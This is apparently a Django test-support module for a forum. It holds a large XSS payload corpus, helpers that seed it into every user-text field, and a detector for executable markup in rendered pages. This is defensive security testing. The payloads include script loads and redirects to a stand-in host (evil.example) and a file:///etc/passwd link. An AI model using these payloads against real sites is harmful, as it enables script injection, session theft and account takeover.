"""The XSS corpus (issue 15): payloads, their seeding into every place user text is shown,
and the one definition of "executable" that both the server-side test
(tests/platform/test_xss_corpus.py) and the browser test
(tests/e2e/test_xss_corpus_in_browser.py) apply.

The payloads call `__xss(n)` (or alert/confirm/prompt, from tests/hostile_inputs.py): the
browser test defines all of them as recorders, so that any script that runs is counted, not
merely any dialog that opens.
"""

import re
from dataclasses import dataclass, field
from datetime import timedelta
from html.parser import HTMLParser

from django.utils import timezone

from config.text import one_line
from tests.hostile_inputs import HOSTILE_INPUTS

X = "__xss(1)"

_MORE = [
    # Classic script, in places and spellings the first corpus lacks
    f"<script>{X}</script>",
    f"<script src=data:text/javascript,{X}></script>",
    "<script/src=//evil.example/x.js></script>",
    f"<script>/*</script><script>*/{X}</script>",
    f'"><script>{X}</script>',
    f"'><script>{X}</script>",
    f"</title><script>{X}</script>",
    f"</textarea><script>{X}</script>",
    f"</style><script>{X}</script>",
    f"--><script>{X}</script>",
    f"]]><script>{X}</script>",
    f"\u0000<script>{X}</script>",
    f"<scr\u0000ipt>{X}</scr\u0000ipt>",
    # Event handlers on every element an allow-list might keep
    f"<a href=https://ok.example onclick={X}>x</a>",
    f'<img src="https://ok.example/a.png" onerror="{X}">',
    f"<p onmouseenter={X}>hover</p>",
    f"<strong onpointerover={X}>x</strong>",
    f"<code onauxclick={X}>x</code>",
    f"<blockquote onwheel={X}>x</blockquote>",
    f"<table onanimationstart={X}><tr><td>x</td></tr></table>",
    f"<td onfocusin={X} tabindex=1>x</td>",
    f"<ol start=1 onclick={X}><li>x</li></ol>",
    "<img src=x onerror=&#x5F;&#x5F;xss(1)>",
    "<img src=x:x onerror=eval(atob('X194c3MoMSk='))>",
    f"<img src=x/onerror={X}>",
    f"<img/src=x/onerror={X}>",
    f"<img src=x onerror\t={X}>",
    f'<img """><script>{X}</script>">',
    f"<body onpageshow={X}>",
    f"<svg><animate onbegin={X} attributeName=x dur=1s>",
    f"<audio src=x onerror={X}>",
    f"<select autofocus onfocus={X}>",
    f"<textarea autofocus onfocus={X}>x</textarea>",
    f"<keygen autofocus onfocus={X}>",
    f"<div draggable=true ondragstart={X}>drag</div>",
    f"<x contenteditable onblur={X}>lose focus</x>",
    f"<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={X}>",
    # URLs: javascript:, data:, vbscript: in every spelling Markdown and HTML allow
    f"[x](javascript:{X})",
    f"[x](javascript://%0a{X})",
    f"[x](jav&#x0A;ascript:{X})",
    f"[x](jav&#x0D;ascript:{X})",
    f"[x](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116:{X})",
    f"[x](javascript&colon;{X})",
    f"[x](\\javascript:{X})",
    f"[x](%6A%61%76%61%73%63%72%69%70%74:{X})",
    f"[x](data:text/html,<script>{X}</script>)",
    "[x](data:text/html;charset=utf-8;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox)",
    "[x](VBSCRIPT:msgbox)",
    f"[x](livescript:{X})",
    f"[x](mocha:{X})",
    "[x](file:///etc/passwd)",
    f"[x](//evil.example/{X})",
    f"![x](javascript:{X})",
    "![x](data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==)",
    '![x](https://ok.example/a.png "onerror=__xss(1)")',
    '![x" onerror="__xss(1)](https://ok.example/a.png)',
    f"<a href=javascript&colon;{X}>x</a>",
    f'<a href="jav\tascript:{X}">x</a>',
    f'<a href="\x01javascript:{X}">x</a>',
    f'<a href="javascript:void(0)" onclick="{X}">x</a>',
    # Markdown-specific: link titles, reference links, autolinks, HTML blocks
    f'[x](https://ok.example "a\\" onmouseover=\\"{X}")',
    f"[x](https://ok.example 'a' onclick='{X}')",
    f"[x][r]\n\n[r]: <javascript:{X}>",
    f'[x][r]\n\n[r]: javascript:{X} "t" onclick={X}',
    f'[r]\n\n[r]: https://ok.example "\\"><script>{X}</script>"',
    f"[x]\n\n[X]: data:text/html,<script>{X}</script>",
    f"<javascript:{X}>",
    f"<JAVASCRIPT:{X}>",
    f"<vbscript:{X}>",
    "<data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==>",
    f'<https://ok.example/"onmouseover="{X}">',
    f"<mailto:a@example.com?body=<script>{X}</script>>",
    f"<div>\n\n<script>{X}</script>\n\n</div>",
    f"<div>\n<img src=x onerror={X}>\n</div>",
    f"<details>\n<summary>x</summary>\n\n<script>{X}</script>\n</details>",
    f"<!-- x -->\n<script>{X}</script>",
    f"<?php {X} ?>",
    f"<!DOCTYPE html><script>{X}</script>",
    f"* [x](javascript:{X})\n  * ![y](javascript:{X})",
    f"1. <img src=x onerror={X}>",
    f"# <img src=x onerror={X}>",
    f"Title\n===\n<script>{X}</script>",
    f"~~<script>{X}</script>~~",
    f"[![img](https://ok.example/a.png)](javascript:{X})",
    f'[x](<https://ok.example> "{X}")',
    # SVG and MathML
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    f"<image href='x' onerror='{X}'/></svg>#x\"/></svg>",
    f"<svg><foreignObject><img src=x onerror={X}></foreignObject></svg>",
    f"<svg><set attributeName=onmouseover to={X}>",
    f"<svg><animate attributeName=href values=javascript:{X} /><a><text y=20>x</text></a></svg>",
    f"<svg><style><img src=x onerror={X}></style></svg>",
    f"<svg/onload={X}>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{X}>x</maction></math>",
    f"<math><mi xlink:href=data:x,<script>{X}</script>>x</mi></math>",
    f'<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror={X} src=1>">',
    # Mutation XSS: noscript, template, style, select, foreign content
    f'<noscript><style></noscript><img src=x onerror="{X}">',
    f"<template><script>{X}</script></template>",
    f"<template><img src=x onerror={X}></template>",
    f'<style><style/><img src=x onerror="{X}">',
    f'<select><style></select><img src=x onerror="{X}">',
    f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{X}">',
    f'<svg></p><style><a id="</style><img src=1 onerror={X}>">',
    f'<xmp><p title="</xmp><img src=x onerror={X}>">',
    f'<iframe><p title="</iframe><img src=x onerror={X}>">',
    f"<plaintext><img src=x onerror={X}>",
    f"<listing>&lt;img src=x onerror={X}&gt;</listing>",
    # Entities and encodings
    f"&lt;script&gt;{X}&lt;/script&gt;",
    f"&#60;script&#62;{X}&#60;/script&#62;",
    "\\u003cscript\\u003e__xss(1)\\u003c/script\\u003e",
    f"%3Cscript%3E{X}%3C/script%3E",
    f"\uff1cscript\uff1e{X}\uff1c/script\uff1e",
    f"<img src=x onerror=\u0022{X}\u0022>",
    f'<a href="&#x26;#x6A;avascript:{X}">double</a>',
    f"\u202e<script>{X}</script>",
    f"\u200b<img src=x onerror={X}>",
    # Broken and unusual tags
    f"<img src=x onerror={X}",
    f'<img src="x" onerror="{X}"',
    f"<<img src=x onerror={X}>>",
    f"<img src=`x` onerror=`{X}`>",
    f'<a "" href="javascript:{X}">x</a>',
    f'<a href="https://ok.example"onclick="{X}">x</a>',
    f"< script>{X}</script>",
    f"<script >{X}</script >",
    f"</script><script>{X}</script>",
    # CSS: expression, url(), import, behaviour
    f'<div style="background-image:url(javascript:{X})">x</div>',
    f'<div style="x:expr/**/ession({X})">x</div>',
    f"<style>@import 'javascript:{X}';</style>",
    "<style>*{behavior:url(https://evil.example/x.htc)}</style>",
    '<p style="-moz-binding:url(https://evil.example/x.xml#xss)">x</p>',
    # Embedded documents, srcdoc, meta refresh, base, forms
    f'<iframe srcdoc="&lt;script&gt;{X}&lt;/script&gt;"></iframe>',
    f"<iframe src=javascript:{X}></iframe>",
    f'<frameset><frame src="javascript:{X}"></frameset>',
    f'<object data="javascript:{X}"></object>',
    f'<embed src="data:text/html,<script>{X}</script>">',
    f'<meta http-equiv="refresh" content="0;url=data:text/html,<script>{X}</script>">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<meta charset="x-user-defined">',
    '<base href="javascript:/">',
    f"<form><input type=submit formaction=javascript:{X} value=go></form>",
    f"<isindex action=javascript:{X} type=image>",
    f'<button form=f formaction="javascript:{X}">go</button>',
    f'<portal src="javascript:{X}"></portal>',
]

PAYLOADS: list[str] = HOSTILE_INPUTS + _MORE


def one_line_of(payload: str, *, limit: int) -> str:
    """The payload as a one-line field (a title, a name) keeps it: controls become spaces."""
    return one_line(payload)[:limit] or "x"


# -- what counts as executable --------------------------------------------------------------

DANGEROUS_URL = re.compile(r"^\s*(javascript:|vbscript:|data:text/html|data:text/javascript|data:image/svg)", re.I)
OUR_SCRIPTS = ("/static/", "/admin/jsi18n/")  # our static files and Django admin's catalogue
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "background", "poster"}


class _Executables(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            value = value or ""
            if name.startswith(("on", "hx-on", "data-hx-on")) or (
                name in URL_ATTRIBUTES and DANGEROUS_URL.match(re.sub(r"[\x00-\x20]", "", value))
            ):
                self.found.append(f"<{tag} {name}={value!r}>")
            elif name == "srcdoc":
                self.found.append(f"<{tag} srcdoc>")
        attributes = dict(attrs)
        if tag == "script" and not (attributes.get("src") or "").startswith(OUR_SCRIPTS):
            self.found.append(f"<script {attributes}>")
        if tag in ("iframe", "frame", "object", "embed", "base", "portal"):
            self.found.append(f"<{tag}>")
        if tag == "meta" and (attributes.get("http-equiv") or "").lower() == "refresh":
            self.found.append("<meta http-equiv=refresh>")


def executables_in(html: str) -> list[str]:
    """Every executable thing in a page: on* attributes (and htmx's hx-on*, which htmx
    evaluates as script), javascript:/vbscript:/data: URLs in
    URL attributes, scripts not from our static files (inline ones included), embedded
    documents and srcdoc, <base>, meta refresh. Our own pages have none of these."""
    parser = _Executables()
    parser.feed(html)
    parser.close()
    return parser.found


# The same rules in the browser, over the live DOM (after the parser's own fix-ups).
EXECUTABLES_IN_DOM_JS = r"""
() => {
  const found = [];
  const dangerous = /^(javascript:|vbscript:|data:text\/html|data:text\/javascript|data:image\/svg)/i;
  const urlAttributes = ["href", "src", "action", "formaction", "xlink:href", "data", "background", "poster"];
  for (const element of document.querySelectorAll("*")) {
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      const value = attribute.value.replace(/[\u0000-\u0020]/g, "");
      if (/^(on|hx-on|data-hx-on)/.test(name)) found.push(`<${element.localName} ${name}>`);
      else if (urlAttributes.includes(name) && dangerous.test(value))
        found.push(`<${element.localName} ${name}=${value}>`);
      else if (name === "srcdoc") found.push(`<${element.localName} srcdoc>`);
    }
  }
  for (const script of document.scripts) {
    const src = script.getAttribute("src") || "";
    const path = src.startsWith(location.origin) ? src.slice(location.origin.length) : src;
    if (!path.startsWith("/static/") && !path.startsWith("/admin/jsi18n/")) found.push(`<script src=${src}>`);
  }
  for (const element of document.querySelectorAll("iframe, frame, object, embed, base, portal"))
    found.push(`<${element.localName}>`);
  for (const meta of document.querySelectorAll("meta[http-equiv]"))
    if (meta.getAttribute("http-equiv").toLowerCase() === "refresh") found.push("<meta refresh>");
  return found;
}
"""

# Runs before any of the page's own scripts: every way a payload could announce itself.
RECORDERS_JS = """
window.__xssCalls = [];
const record = (how) => (...args) => { window.__xssCalls.push(how + ":" + args.join(",")); };
window.__xss = record("__xss");
window.alert = record("alert");
window.confirm = record("confirm");
window.prompt = record("prompt");
window.print = record("print");
"""


# -- seeding ---------------------------------------------------------------------------------


@dataclass
class Seeded:
    """What seed_everywhere made, and the pages that show it (path, who may see it)."""

    member: object
    rep: object
    lead: object
    moderator: object
    admin: object
    main_thread: object
    case: object
    idea: object
    announcement: object
    authors: list = field(default_factory=list)
    threads: list = field(default_factory=list)
    refused: dict = field(default_factory=dict)  # place -> payload indexes the form refused


def chunks(payloads: list[str], *, limit: int, sep: str = "\n\n") -> list[str]:
    """The payloads packed greedily into texts of at most `limit` characters, in order, each
    payload whole (one longer than `limit` alone, cut): a field that holds several payloads
    shows them all, so that one page load tries many."""
    packed: list[str] = []
    for payload in payloads:
        if packed and len(packed[-1]) + len(sep) + len(payload) <= limit:
            packed[-1] += sep + payload
        else:
            packed.append(payload[:limit])
    return packed


def _display_name(index: int, name: str, *, refused: list) -> str:
    """The name as the settings form's field keeps it (one line, no control characters,
    invisible characters removed), or "" when the field refuses it (recorded). The form's
    impersonation check costs a query per name and is no XSS defence, so it is left out."""
    from django.core.exceptions import ValidationError

    from accounts.views import SettingsForm

    try:
        return SettingsForm.base_fields["display_name"].clean(one_line_of(name, limit=80))
    except ValidationError:
        refused.append(index)
        return ""


def seed_everywhere(payloads: list[str]) -> Seeded:
    """Every payload into every place user text is shown, through the actions members,
    reps, leads and moderators use, packed so that a handful of pages show them all: a
    member per payload (display name; the first few hold the corpus in their bios); flags
    on the answers and review requests whose notes hold the corpus (the reports page), hide
    and lock reasons (the public log); a revision history; a thread with answers holding
    the payloads (bodies, search snippets); a thread per chunk (titles, questions, the
    queue's dismissal reasons); a case (messages, summary); an idea (status notes); an
    announcement (title, body, pin, banner)."""
    from accounts.models import User
    from announcements import actions as announcement_actions
    from cases import actions as case_actions
    from forum import actions as forum_actions
    from forum.models import Tag
    from ideas import actions as idea_actions
    from ideas.models import Idea
    from moderation.actions import flags
    from moderation.models import Flag
    from responses import actions as response_actions
    from team import actions as team_actions
    from tests.factories import UserFactory

    # Every form refuses a NUL character (Django's ProhibitNullCharactersValidator), so no
    # stored text holds one (PostgreSQL could not store it): the NUL payloads go in without it.
    payloads = [payload.replace("\x00", "") for payload in payloads]
    now = timezone.now()
    member = UserFactory(username="xss-member", display_name="Xss Member")
    rep = UserFactory(username="xss-rep", display_name="Xss Rep", groups=["Reps"])
    lead = UserFactory(username="xss-lead", display_name="Xss Lead", groups=["Leads"])
    moderator = UserFactory(username="xss-mod", display_name="Xss Moderator", groups=["Moderators"])
    admin = UserFactory(username="xss-admin", display_name="Xss Admin", is_staff=True, is_superuser=True)
    refused: dict[str, list[int]] = {"display_name": []}
    Tag.objects.get_or_create(name="xss", slug="xss")
    team_actions.describe_tag(tag=Tag.objects.get(name="xss"), description=chunks(payloads, limit=500)[0], by=lead)

    bios = chunks(payloads, limit=2000)
    # One INSERT for the members: they only need to exist, with their names and bios.
    authors = User.objects.bulk_create(
        User(
            username=f"xss{index}",
            email=f"xss{index}@example.com",
            password="!",  # unusable: nobody signs in as them
            display_name=_display_name(index, payload, refused=refused["display_name"]),
            bio=bios[index] if index < len(bios) else "",
        )
        for index, payload in enumerate(payloads)
    )
    main = forum_actions.ask_question(
        author=member, title="Every payload in the corpus, answered", body=payloads[0], tags=["xss"], now=now
    )
    bodies = chunks([f"xssprobe {index}\n\n{payload}" for index, payload in enumerate(payloads)], limit=500)
    answers = [
        forum_actions.post_answer(author=authors[index], thread=main, body=body, now=now)
        for index, body in enumerate(bodies)
    ]
    for index, note in enumerate(chunks(payloads, limit=500)):
        flags.flag_post(
            post=answers[(index + 1) % len(answers)], flagger=authors[index], reason=Flag.Reason.OTHER, note=note
        )

    threads = []
    for index, text in enumerate(chunks(payloads, limit=500)):
        title = one_line_of(f"xssprobe {index} {text}", limit=150)
        thread = forum_actions.ask_question(
            author=authors[index], title=title, body=f"xssprobe {index}\n\n{text}", tags=["xss"], now=now
        )
        response_actions.dismiss_thread(thread=thread, by=rep, reason=text, now=now - timedelta(seconds=index))
        threads.append(thread)

    # Moderators' reasons (the public log) on the chunk threads; a revision history.
    from moderation.actions import decisions

    for index, text in enumerate(chunks(payloads, limit=500)):
        decisions.lock_thread(thread=threads[index], by=moderator, reason=text, now=now)
        # A hidden question whose author asks for a review with a note (the reports page).
        hidden = threads[index].posts.get(is_question=True)
        decisions.hide_post(post=hidden, by=moderator, rule=Flag.Reason.OFF_TOPIC, reason=text[:300], now=now)
        decisions.request_review(post=hidden, by=authors[index], note=text, now=now)
    question = main.posts.get(is_question=True)
    for index, text in enumerate(chunks(payloads, limit=5000)):
        forum_actions.edit_post(
            post=question, editor=member, body=text, title=one_line_of(f"xssprobe edit {index} {text}", limit=150)
        )
    main.refresh_from_db(fields=["title", "slug"])  # the address follows the title (issue 24)

    messages = chunks(payloads, limit=5000)
    case, _ = case_actions.open_case(thread=main, by=rep, message=messages[0], now=now)
    for index, body in enumerate(messages[1:], start=1):
        case_actions.post_case_message(case=case, author=member if index % 2 else rep, body=body, now=now)
    case_actions.resolve_case(
        case=case, by=rep, summary="\n\n".join(payloads), public_note="\n\n".join(payloads), now=now
    )

    idea_thread = idea_actions.post_idea(
        author=member, title="An idea whose status notes are the corpus", body=payloads[1], tags=["xss"], now=now
    )
    idea = Idea.objects.get(thread=idea_thread)
    statuses = [Idea.Status.PLANNED, Idea.Status.UNDER_REVIEW]
    for index, note in enumerate(chunks(payloads, limit=5000)):
        idea_actions.set_idea_status(idea=idea, status=statuses[index % 2], note=note, by=lead, now=now)

    announcement = announcement_actions.post_announcement(
        author=lead,
        title=one_line_of(payloads[0], limit=150),
        body="\n\n".join(payloads),
        tags=["xss"],
        pinned_until=now + timedelta(days=1),
        banner=announcement_actions.BannerRequest(
            text=one_line_of(chunks(payloads, limit=200)[1], limit=200), clears_at=now + timedelta(days=1)
        ),
        now=now,
    )
    return Seeded(
        member=member,
        rep=rep,
        lead=lead,
        moderator=moderator,
        admin=admin,
        main_thread=main,
        case=case,
        idea=idea,
        announcement=announcement,
        authors=authors,
        threads=threads,
        refused=refused,
    )


def pages_of(seeded: Seeded) -> list[tuple[str, str, object]]:
    """(place, path, viewer) for every page kind that shows seeded text."""
    from django.urls import reverse

    return [
        ("post bodies, display names", seeded.main_thread.get_absolute_url(), seeded.member),
        ("titles, home", reverse("forum:home"), None),
        ("titles, tag page, tag description", reverse("forum:tag", args=["xss"]), None),
        ("search snippets", reverse("forum:search") + "?q=xssprobe", None),
        ("notifications", reverse("forum:notifications"), seeded.member),
        ("flag notes", reverse("moderation:reports"), seeded.moderator),
        ("dismissal reasons", reverse("responses:official_queue") + "?show=all", seeded.lead),
        ("case messages and summary", seeded.case.get_absolute_url(), seeded.member),
        ("cases list", reverse("cases:list"), seeded.rep),
        ("idea status notes", seeded.idea.thread.get_absolute_url(), None),
        ("ideas list", reverse("ideas:list"), None),
        ("announcement, pin, banner", seeded.announcement.get_absolute_url(), None),
        ("announcements list", reverse("announcements:list"), None),
        ("bio", seeded.authors[0].get_absolute_url(), None),
        ("thread events: dismissal and lock reasons", seeded.threads[0].get_absolute_url(), seeded.lead),
        ("revisions", reverse("forum:revisions", args=[seeded.main_thread.posts.get(is_question=True).pk]), None),
        ("moderation log", reverse("moderation:log"), None),
        ("team log: tag description", reverse("team:log"), seeded.lead),
        ("admin: threads", "/admin/forum/thread/", seeded.admin),
        ("admin: posts", "/admin/forum/post/", seeded.admin),
        ("admin: users", "/admin/accounts/user/", seeded.admin),
        ("admin: moderation log reasons", "/admin/moderation/logentry/", seeded.admin),
        ("admin: notifications", "/admin/forum/notification/", seeded.admin),
        ("admin: dismissal reasons", "/admin/responses/queuedismissal/", seeded.admin),
        ("admin: an answer's page", f"/admin/forum/post/{seeded.main_thread.posts.last().pk}/change/", seeded.admin),
    ]
